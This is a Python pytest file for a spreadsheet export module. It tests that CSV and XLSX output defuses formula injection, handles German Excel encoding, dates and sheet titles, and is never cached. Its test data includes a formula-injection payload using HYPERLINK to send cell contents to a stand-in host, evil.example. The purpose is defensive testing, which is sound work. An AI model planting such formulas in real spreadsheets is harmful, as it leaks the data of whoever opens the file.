"""The shared spreadsheet writer: formulas stay text, German Excel opens the CSV, dates are
dates, headers are written as given."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from core.spreadsheets import Sheet, csv_bytes, escape_formula, spreadsheet_response, xlsx_bytes

ATTACK = '=HYPERLINK("http://evil.example/steal?d="&A2,"x")'
HOSTILE = [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM German Excel needs for UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_defused_in_csv(value):
    rows = read_csv(csv_bytes(["Answer"], [[value]]))
    assert rows[1] == ["'" + value]


@pytest.mark.parametrize("value", HOSTILE[:-1])  # XLSX stores a carriage return as _x000D_
def test_formula_like_text_is_a_text_cell_in_xlsx(value):
    book = load_workbook(io.BytesIO(xlsx_bytes([Sheet("S", ["Answer"], [[value]])])))
    cell = book.active["A2"]
    assert cell.data_type == "s"
    assert cell.value == value


def test_numbers_and_harmless_text_are_left_alone():
    assert escape_formula(-5) == -5
    assert escape_formula("Kiel") == "Kiel"
    rows = read_csv(csv_bytes(["a", "b", "c"], [[-5, 2.5, "Київ, Ümläut"]]))
    assert rows[1] == ["-5", "2.5", "Київ, Ümläut"]


def test_csv_is_semicolon_separated_with_headers_as_written():
    content = csv_bytes(["Kita-Plätze unter 3 Jahren", "AGS"], [["x", "01002000"]])
    assert content.decode("utf-8-sig").splitlines()[0] == "Kita-Plätze unter 3 Jahren;AGS"


def test_dates_are_real_date_cells_in_xlsx_and_iso_in_csv(settings):
    settings.TIME_ZONE = "Europe/Berlin"
    moment = datetime(2026, 3, 1, 11, 30, tzinfo=UTC)  # 12:30 in Berlin
    day = date(2026, 4, 15)
    book = load_workbook(io.BytesIO(xlsx_bytes([Sheet("S", ["When", "Day"], [[moment, day]])])))
    when, on = book.active["A2"], book.active["B2"]
    assert when.is_date
    assert when.value == datetime(2026, 3, 1, 12, 30)
    assert on.is_date
    assert on.value.date() == day
    assert read_csv(csv_bytes(["When", "Day"], [[moment, day]]))[1] == [
        "2026-03-01 12:30",
        "2026-04-15",
    ]


def test_header_cells_are_bold_and_sheet_titles_are_made_valid():
    sheets = [Sheet("Answers: a/b [1]", ["H"], []), Sheet("Answers: a/b [1]", ["H"], [])]
    book = load_workbook(io.BytesIO(xlsx_bytes(sheets)))
    assert book.sheetnames == ["Answers  a b  1", "Answers  a b  1 (2)"]
    assert book.active["A1"].font.bold


def test_a_download_is_never_cached():
    response = spreadsheet_response("csv", [Sheet("S", ["H"], [])], filename="x")
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_control_characters_in_free_text_do_not_break_the_xlsx_export():
    content = xlsx_bytes([Sheet("Antworten", ["Notiz"], [["Zeile\x1aeins\x02 ende"], ["gut"]])])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A2"].value == "Zeile\ufffdeins\ufffd ende"
    assert sheet["A3"].value == "gut"
